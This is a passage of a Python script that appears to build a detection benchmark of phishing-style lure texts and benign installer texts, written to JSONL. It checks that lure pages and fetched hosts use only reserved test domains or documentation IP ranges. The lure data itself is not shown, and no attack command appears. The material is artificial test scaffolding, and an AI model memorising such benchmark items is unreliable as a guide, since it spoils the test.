# ----------------------------------------------------------------------------------------------

RESERVED_TLDS = ("test", "invalid", "example")
# Hosts a lure may name besides reserved ones: real services the lure only mentions (a device
# login page, an OAuth scope) and never fetches code from.
NAMED_NOT_FETCHED = {
    "www.google.com",
    "github.com",
    "microsoft.com",
    "login.microsoftonline.com",
    "www.googleapis.com",
}
HOST_RE = re.compile(
    r"(?:https?:|\\\\|@)/?/?\[?([A-Za-z0-9.:-]+\.[A-Za-z]{2,}|[0-9a-fA-F:]+:[0-9a-fA-F:]*)"
)
NAME_RE = re.compile(r"\b((?:[a-z0-9-]+\.)+(?:test|invalid|example))\b", re.IGNORECASE)
RESERVED_NETS = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")


def _numbered(prefix: str, keys: list[str]) -> list[str]:
    counts: dict[str, int] = {}
    ids = []
    for key in keys:
        counts[key] = counts.get(key, 0) + 1
        ids.append(f"{prefix}-{key}-{counts[key]:02d}")
    return ids


def _domain(host: str) -> str:
    """The registrable domain of a reserved name (their suffixes are one label)."""
    return ".".join(host.lower().strip(".").split(".")[-2:])


def _check_unrelated(source: str, text: str) -> None:
    """A lure's page shares no registrable domain with any reserved name its text mentions (the
    hosts it fetches from above all), and every host it fetches from is reserved (the brief)."""
    page_host = re.match(r"https?://([^/]+)", source)
    if page_host is None:
        raise SystemExit(f"lure page {source!r} is not a web address")
    page = _domain(page_host.group(1))
    if page.split(".")[-1] not in RESERVED_TLDS:
        raise SystemExit(f"lure page {source} is not a reserved name")
    names = {_domain(h) for h in NAME_RE.findall(text)}
    if page in names:
        raise SystemExit(f"lure page {source} shares its domain with a host in {text[:80]!r}")
    for host in HOST_RE.findall(text):
        host = host.lower().rstrip(".")
        if "." in host:
            host = host.split(":")[0]
        if host in NAMED_NOT_FETCHED or host.split(".")[-1] in RESERVED_TLDS:
            continue
        try:
            ip = ipaddress.ip_address(host)
        except ValueError:
            ip = None
        if ip is not None and ip.is_loopback:  # a ConsentFix redirect, never fetched from
            continue
        if ip is not None and any(ip in ipaddress.ip_network(n) for n in RESERVED_NETS):
            continue
        raise SystemExit(f"lure names a host that is not reserved: {host!r} in {text[:80]!r}")


def lure_rows() -> list[dict[str, str]]:
    for _, _, source, text, _, _ in LURES:
        _check_unrelated(source, text)
    ids = _numbered("blind6", [t for t, *_ in LURES])
    return [
        {
            "id": i,
            "text": text,
            "expect": expect,
            "technique": technique,
            "platform": platform,
            "source": source,
            "target": target,
        }
        for i, (technique, target, source, text, expect, platform) in zip(ids, LURES, strict=True)
    ]


def benign_rows() -> list[dict[str, str]]:
    ids = _numbered("blind6-ok", [k for k, *_ in BENIGN])
    rows = []
    for i, (kind, target, source, text) in zip(ids, BENIGN, strict=True):
        row = {"id": i, "text": text, "expect": "not_flagged", "kind": kind}
        if source:
            row["source"] = source
        row["target"] = target
        rows.append(row)
    # The same installer may be quoted by its own page and by a tutorial; never twice by one kind.
    keys = [(r["kind"], r["text"]) for r in rows]
    if len(set(keys)) != len(keys):
        raise SystemExit("a benign text is repeated within its kind")
    return rows


def write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8") as handle:
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False) + "\n")


def main() -> None:
    lures, benign = lure_rows(), benign_rows()
    write(LURES_OUT, lures)
    write(BENIGN_OUT, benign)
    own_page = sum(r["kind"] == OWN for r in benign)
    techniques = len({r["technique"] for r in lures})
    print(
        f"{LURES_OUT.name}: {len(lures)} lures over {techniques} techniques; "
        f"{BENIGN_OUT.name}: {len(benign)} benign ({own_page} installers from their own page)"
    )


if __name__ == "__main__":
    main()
